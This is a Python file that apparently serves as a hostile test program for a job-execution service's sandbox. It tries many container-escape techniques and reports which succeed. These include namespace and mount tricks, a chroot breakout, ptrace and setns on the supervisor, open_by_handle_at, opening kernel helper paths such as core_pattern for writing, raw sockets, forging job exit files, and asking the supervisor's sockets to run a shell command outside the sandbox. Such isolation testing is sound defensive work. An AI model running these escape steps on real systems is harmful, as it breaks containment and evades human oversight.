"""A hostile program: it tries to reach what it is not given, in every way, and tells what it reached.

It is a service's function and an executable in one. Each way is tried in a process of its own. The tests give
it by environment SPOOL, the spool's folder, and OUTSIDE, a file that is made where a socket is open to it;
and as data the names of the sockets.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import signal
import socket
import stat
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER, NEWPID = 0x20000, 0x10000000, 0x20000000
BIND, REC, DETACH = 0x1000, 0x4000, 2
SPOOL, OUTSIDE = os.environ.get("SPOOL", ""), os.environ.get("OUTSIDE", "")
WORK = os.getcwd()
SOCKETS: list[str] = []
NAMES = ("root", "cwd", "fd/0", "fd/3", "ns/mnt", "environ", "mem", "auxv", "task/1/root")
SUPERVISOR = os.getppid()


def shows_spool(folder: str) -> bool:
    """Return whether a folder is the spool as it is outside."""
    with contextlib.suppress(OSError):
        return "queue" in os.listdir(folder)
    return False


def mount(source: str, target: str, kind: str | None, flags: int) -> None:
    argument = kind.encode() if kind else None
    if LIBC.mount(source.encode(), target.encode(), argument, ctypes.c_ulong(flags), None) != 0:
        raise OSError(ctypes.get_errno(), "mount")


def own_namespaces(flags: int) -> None:
    """Enter a user namespace, as root of it, and others."""
    user, group = os.getuid(), os.getgid()
    if LIBC.unshare(NEWUSER | flags) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)


def the_path() -> bool:
    return shows_spool(SPOOL)


def dots() -> bool:
    if not os.path.samefile("..", os.path.dirname(WORK)):
        return True  # it is the folder that was covered
    return any(shows_spool("/".join([".."] * depth)) for depth in range(1, 9))


def descriptors() -> bool:
    return any(
        shows_spool(f"/proc/self/fd/{name}/{up}") for name in os.listdir("/proc/self/fd") for up in ("", "..")
    )


def unmounting() -> bool:
    for _ in range(3):
        for place in (SPOOL, WORK, "/proc", "/proc/sys", "/"):
            LIBC.umount2(place.encode(), DETACH)
            LIBC.umount(place.encode())
    return shows_spool(SPOOL) or dots()


def unmounting_as_root_of_a_namespace() -> bool:
    own_namespaces(NEWNS)
    return unmounting()


def binding() -> bool:
    reached = False
    for flags in (0, NEWNS):
        with contextlib.suppress(OSError):
            own_namespaces(flags)
        for source, up in ((os.path.dirname(SPOOL), os.path.basename(SPOOL)), ("/", SPOOL)):
            for recursive in (0, REC):
                with contextlib.suppress(OSError):
                    mount(source, WORK, None, BIND | recursive)
                    reached = reached or shows_spool(f"{WORK}/{up}")
    return reached


def a_disk() -> bool:
    """Open a device that the working folder's file system lies on, one that is there or a new one."""
    device = os.stat(WORK).st_dev
    with contextlib.suppress(OSError):
        os.mknod(f"{WORK}/disk", stat.S_IFBLK | 0o600, device)
    paths = [f"{WORK}/disk", *(os.path.join("/dev", name) for name in os.listdir("/dev"))]
    for path in paths:
        with contextlib.suppress(OSError):
            status = os.stat(path)
            if stat.S_ISBLK(status.st_mode) and status.st_rdev == device:
                os.close(os.open(path, os.O_RDONLY))
                return True
    return False


def the_supervisor_s_proc() -> bool:
    for name in NAMES:
        with contextlib.suppress(OSError):
            os.close(os.open(f"/proc/{SUPERVISOR}/{name}", os.O_RDONLY))
            return True
    return False


def any_root_in_proc() -> bool:
    return any(shows_spool(f"/proc/{pid}/root{SPOOL}") for pid in os.listdir("/proc") if pid.isdigit())


def entering() -> bool:
    for name in ("mnt", "pid"):
        with contextlib.suppress(OSError):
            fd = os.open(f"/proc/{SUPERVISOR}/ns/{name}", os.O_RDONLY)
            if LIBC.setns(fd, 0) == 0:
                return True
    pidfd = os.pidfd_open(SUPERVISOR)
    return LIBC.setns(pidfd, NEWNS) == 0 or LIBC.syscall(438, pidfd, 0, 0) >= 0  # pidfd_getfd


def tracing() -> bool:
    buffer = ctypes.create_string_buffer(8)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    there = (ctypes.c_void_p * 2)(id(LIBC), 8)
    read = LIBC.process_vm_readv(SUPERVISOR, vector, ctypes.c_ulong(1), there, ctypes.c_ulong(1), 0)
    return read > 0 or LIBC.ptrace(0x4206, SUPERVISOR, None, None) == 0  # PTRACE_SEIZE


def handles() -> bool:
    """Open the working folder by its handle: whoever may do that may open every folder of its disk."""
    handle = (ctypes.c_uint32 * 34)(128)
    mount_id = ctypes.c_int()
    if LIBC.name_to_handle_at(-100, WORK.encode(), handle, ctypes.byref(mount_id), 0) != 0:
        return False
    fd = os.open(WORK, os.O_RDONLY)
    return bool(LIBC.open_by_handle_at(fd, handle, os.O_RDONLY) >= 0)


def leaving_a_root() -> bool:
    here = os.open("/", os.O_RDONLY)
    os.makedirs("prison", exist_ok=True)
    os.chroot("prison")
    os.fchdir(here)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    return shows_spool(SPOOL)


def sockets() -> bool:
    """Ask every socket of the engine's processes for a process outside, and to stay."""
    request = {
        "folder": WORK,
        "place": WORK,
        "contain": "namespace",
        "output_limit": 100,
        "argv": ["/bin/sh", "-c", f"touch {OUTSIDE}"],
        "workdir": None,
        "mounts": [],
    }
    reached = False
    for name in SOCKETS:
        for message in (json.dumps(request).encode() + b"\n{}", b"lease"):
            with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as connection:
                connection.settimeout(1)
                with contextlib.suppress(ConnectionError):
                    connection.connect("\0" + name.removeprefix("@"))
                    connection.send(message)
                    try:
                        reached = reached or connection.recv(100) != b""
                    except TimeoutError:
                        reached = True  # it is held open: a lease
    return reached or os.path.exists(OUTSIDE)


def what_the_kernel_starts() -> bool:
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper"):
        for namespaces in (False, True):
            with contextlib.suppress(OSError):
                if namespaces:
                    LIBC.umount2(b"/proc/sys", DETACH)
                os.close(os.open(path, os.O_WRONLY))
                return True
    return False


def the_network() -> bool:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)):
        return True


def forging_an_end() -> bool:
    """Make an exit's name in a folder of a job."""
    for job in os.listdir(f"{SPOOL}/run"):
        with contextlib.suppress(OSError), open(f"{SPOOL}/run/{job}/exit-code-0-1", "w"):
            return True
    return False


def writing_into_the_spool() -> bool:
    for room in ("", "run", "tmp", "queue", "cancel"):
        with contextlib.suppress(OSError), open(f"{SPOOL}/{room}/planted", "w"):
            return True
    return False


def signals() -> bool:
    """Signal the supervisor, which ignores its program: this process is still there then."""
    for number in (signal.SIGTERM, signal.SIGUSR1, signal.SIGKILL, signal.SIGSTOP, signal.SIGHUP):
        os.kill(SUPERVISOR, number)
    return False


WAYS = (
    the_path,
    dots,
    descriptors,
    unmounting,
    unmounting_as_root_of_a_namespace,
    binding,
    a_disk,
    the_supervisor_s_proc,
    any_root_in_proc,
    entering,
    tracing,
    handles,
    leaving_a_root,
    sockets,
    what_the_kernel_starts,
    the_network,
    forging_an_end,
    writing_into_the_spool,
    signals,
)


def tried(way) -> str:
    """Try a way in a process of its own: `no` is the expected answer."""
    pid = os.fork()
    if pid == 0:
        code = 2
        with contextlib.suppress(OSError):
            code = int(way())
        os._exit(code)
    _, status = os.waitpid(pid, 0)
    return {0: "no", 1: "REACHED", 2: "no"}.get(os.waitstatus_to_exitcode(status), f"ended with {status}")


def run(data=None, params=None) -> dict[str, str]:
    """Return for each way whether it reached anything."""
    SOCKETS.extend((data or {}).get("sockets", ()))
    return {way.__name__: tried(way) for way in WAYS}


if __name__ == "__main__":
    with open(os.environ["INPUT_DIRECTORY"] + "/data.json") as given:
        sys.stdout.write(f"PlanQK:Job:Result: {json.dumps(run(json.load(given)))}\n")
